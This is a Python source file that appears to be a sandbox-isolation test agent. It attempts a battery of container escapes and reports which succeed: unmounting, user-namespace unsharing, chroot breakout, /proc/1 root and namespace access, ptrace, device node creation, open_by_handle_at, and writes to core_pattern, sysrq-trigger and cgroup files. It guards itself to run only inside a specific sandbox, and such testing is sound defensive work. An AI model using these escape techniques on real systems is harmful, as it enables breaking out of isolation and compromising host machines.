"""An agent that attacks the walls of its sandbox, from inside; prints as JSON what it could do, each attack by name.

It is run by the sandbox's Python without any package. Its argument is JSON: `secrets` (paths on the host), `canaries`
(words that only the host's files hold), `pids` (of processes outside).
"""

from __future__ import annotations

import ctypes
import json
import os
import socket
import stat
import struct
import sys
from collections.abc import Callable

CLONE_NEWNS, CLONE_NEWUSER = 0x20000, 0x10000000
LIBC = ctypes.CDLL(None, use_errno=True)
SKIPPED = ("/proc", "/sys", "/usr", "/bin", "/lib", "/dev", "/opt", "/var/lib/dpkg", sys.prefix, sys.base_prefix)
LARGEST = 4096
"""Bytes of a file that is worth reading: what is looked for is small."""


def reads(path: str) -> str:
    """Return the beginning of a file, or nothing."""
    try:
        status = os.stat(path)
        if not stat.S_ISREG(status.st_mode) or status.st_size > LARGEST:
            return ""
        with open(path, "rb") as file:
            return file.read(20_000).decode(errors="replace")
    except OSError:
        return ""


def writes(path: str, text: str) -> bool:
    """Say whether something can be written; without a text it is opened only, which harms nobody if it can."""
    try:
        descriptor = os.open(path, os.O_WRONLY)
        os.write(descriptor, text.encode())
        os.close(descriptor)
    except OSError:
        return False
    return True


def finds(top: str, canaries: list[str]) -> list[str]:
    """Return the files that hold one of the words."""
    found = []
    for place, names, files in os.walk(top):
        if top == "/":
            names[:] = [name for name in names if os.path.join(place, name) not in SKIPPED]
        for name in files:
            path = os.path.join(place, name)
            if any(canary in reads(path) for canary in canaries):
                found.append(path)
    return found


def apart(attack: Callable[[], list[str]]) -> list[str]:
    """Run an attack in a process of its own, which may lose itself, and return what it found."""
    reading, writing = os.pipe()
    pid = os.fork()
    if pid == 0:
        said = b"[]"
        try:
            said = json.dumps(attack()).encode()
        except OSError:
            pass
        finally:
            os.write(writing, said)
            os._exit(0)
    os.close(writing)
    with os.fdopen(reading, "rb") as pipe:
        said = pipe.read()
    os.waitpid(pid, 0)
    return list(json.loads(said or b"[]"))


def takes_covers_off(canaries: list[str]) -> list[str]:
    """Unmount whatever is mounted, then look again."""
    done = []
    with open("/proc/self/mounts") as file:
        places = [line.split()[1] for line in file]
    for place in reversed(places):
        if place != "/" and LIBC.umount2(place.encode(), 2) == 0:
            done.append(place)
    return done + finds("/", canaries)


def in_a_user_namespace(canaries: list[str]) -> list[str]:
    """Become the root of a namespace of one's own, with every power, then take the covers off."""
    user, group = os.getuid(), os.getgid()
    if LIBC.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
        return []
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {user} 1"), ("gid_map", f"0 {group} 1")):
        writes(f"/proc/self/{name}", text)
    return takes_covers_off(canaries)


def by_chroot(canaries: list[str]) -> list[str]:
    """Climb out of a chroot, the way that leads out of every chroot that is nothing more."""
    os.makedirs("/root/jail", exist_ok=True)
    outside = os.open("/", os.O_RDONLY)
    os.chroot("/root/jail")
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return finds("/", canaries)


def by_the_first_process(canaries: list[str], secrets: list[str]) -> list[str]:
    """Go through what the first process holds open, where it is, and its namespaces."""
    found = []
    ways = ["/proc/1/root", "/proc/1/cwd", "/proc/1/root/.."]
    for name in os.listdir("/proc/1/fd"):
        try:
            os.readlink(f"/proc/1/fd/{name}")
        except OSError:
            continue
        found.append(f"/proc/1/fd/{name}")
        ways.append(f"/proc/1/fd/{name}/..")
    found += [way + path for way in ways for path in secrets if any(word in reads(way + path) for word in canaries)]
    for name in ("mnt", "pid", "user"):
        try:
            descriptor = os.open(f"/proc/1/ns/{name}", os.O_RDONLY)
        except OSError:
            continue
        before = os.stat("/").st_ino
        if LIBC.setns(descriptor, 0) == 0 and os.stat("/").st_ino != before:
            found.append(name)
    if LIBC.ptrace(16, 1, 0, 0) == 0:
        found.append("ptrace")
    return found


def by_devices() -> list[str]:
    """Make the host's disks and memory, and read them."""
    found = []
    with open("/proc/partitions") as file:
        disks = [line.split()[:2] for line in file.readlines()[2:]]
    for kind, major, minor in [(stat.S_IFBLK, int(a), int(b)) for a, b in disks] + [(stat.S_IFCHR, 1, 1)]:
        path = f"/root/device-{major}-{minor}"
        try:
            os.mknod(path, kind | 0o600, os.makedev(major, minor))
            with open(path, "rb") as file:
                file.read(512)
            found.append(path)
        except OSError:
            continue
    return found + [name for name in os.listdir("/dev/pts") if name.isdigit()]


def by_handle() -> list[str]:
    """Open the root of the disk by its number, as older containers let one."""
    here = os.open("/root", os.O_RDONLY)
    handle = ctypes.create_string_buffer(struct.pack("IiQ", 8, 1, 2) + bytes(64))
    opened = LIBC.open_by_handle_at(here, handle, os.O_RDONLY)
    return os.listdir(opened) if opened >= 0 else []


def by_signals(pids: list[int]) -> list[str]:
    """Find what is outside and would get a signal: number 0 says it and harms nobody."""
    reached = []
    for pid in {*pids, *range(3, 2_000)} - {os.getpid(), os.getppid()}:
        try:
            os.kill(pid, 0)
            reached.append(str(pid))
        except OSError:
            continue
    return reached


def by_the_kernel() -> list[str]:
    """Open for writing what steers the host's kernel."""
    wanted = [
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/vm/overcommit_memory",
        "/proc/sysrq-trigger",
        "/sys/kernel/uevent_helper",
        "/sys/kernel/mm/transparent_hugepage/enabled",
    ]
    found = [path for path in wanted if writes(path, "")]
    for place, _names, files in os.walk("/sys/fs/cgroup"):
        found += [f"{place}/{name}" for name in files if name == "cgroup.procs" and writes(f"{place}/{name}", "")]
    if reads("/proc/kallsyms") or reads("/proc/kcore"):
        found.append("the kernel's memory")
    return found


def by_the_network() -> list[str]:
    """Listen to what others say on loopback."""
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()
    return ["raw socket"]


def attack(secrets: list[str], canaries: list[str], pids: list[int]) -> dict[str, list[str]]:
    """Try everything, each in a process of its own; return what each could do."""
    attacks: dict[str, Callable[[], list[str]]] = {
        "names": lambda: [path for path in secrets if os.path.lexists(path)],
        "search": lambda: finds("/", canaries),
        "covers": lambda: takes_covers_off(canaries),
        "user namespace": lambda: in_a_user_namespace(canaries),
        "chroot": lambda: by_chroot(canaries),
        "first process": lambda: by_the_first_process(canaries, secrets),
        "devices": by_devices,
        "handle": by_handle,
        "kernel": by_the_kernel,
        "network": by_the_network,
        "signals": lambda: by_signals(pids),
    }
    return {name: apart(one) for name, one in attacks.items()}


def main() -> None:
    """Try everything, but only where the first process is a sandbox's: some of it would harm a machine."""
    with open("/proc/1/cmdline", "rb") as file:
        if b"/sandbox/init.py" not in file.read():
            sys.exit("there are no walls around this process")
    told = json.loads(sys.argv[1])
    print(json.dumps(attack(told["secrets"], told["canaries"], told["pids"])))


if __name__ == "__main__":
    main()
